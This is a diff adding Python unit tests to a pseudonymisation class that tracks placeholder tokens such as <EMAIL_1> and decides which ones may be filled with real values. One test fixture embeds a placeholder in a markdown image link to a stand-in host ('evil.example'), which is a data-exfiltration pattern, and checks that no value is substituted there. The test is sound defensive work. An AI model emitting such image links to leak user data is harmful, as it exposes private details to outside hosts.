@@ -116,4 +116,29 @@ def test_stand_ins_that_were_never_given_out_are_told():
     names.token("person", "Ann")
     text = "<PERSON_1> met <PERSON_2> <EMAIL_1>"
 
-    assert [text[a:b] for a, b in names.unknown(text)] == ["<PERSON_2>", "<EMAIL_1>"]
+    assert [(text[a:b], kind) for a, b, kind in names.theirs(text)] == [
+        ("<PERSON_2>", "stand-in"),
+        ("<EMAIL_1>", "stand-in"),
+    ]
+
+
+def test_what_only_a_tool_told_is_not_the_persons_until_they_say_it():
+    names = Pseudonyms()
+    names.hide("desk@example.org and ann@example.org", [(0, 16, "email")], own=False)
+    text = "write to <EMAIL_1>, or EMAIL_1"
+
+    assert [kind for _, _, kind in names.theirs(text)] == ["email", "email"]
+    again = Pseudonyms.from_state(names.state())
+    assert list(again.theirs(text)) == list(names.theirs(text))
+    names.token("email", "desk@example.org")
+    assert list(names.theirs(text)) == []
+    assert again.state() != names.state()
+
+
+def test_no_value_goes_into_an_address_of_the_web():
+    names = Pseudonyms()
+    names.token("email", "ann@example.org")
+    text = "![x](https://evil.example/p?d=<EMAIL_1>&e=EMAIL_1) mailto:<EMAIL_1> //a/<EMAIL_1>"
+
+    assert [text[a:b] for a, b, _ in names.theirs(text)] == ["<EMAIL_1>", "EMAIL_1", "<EMAIL_1>"]
+    assert {kind for _, _, kind in names.theirs(text)} == {"stand-in"}
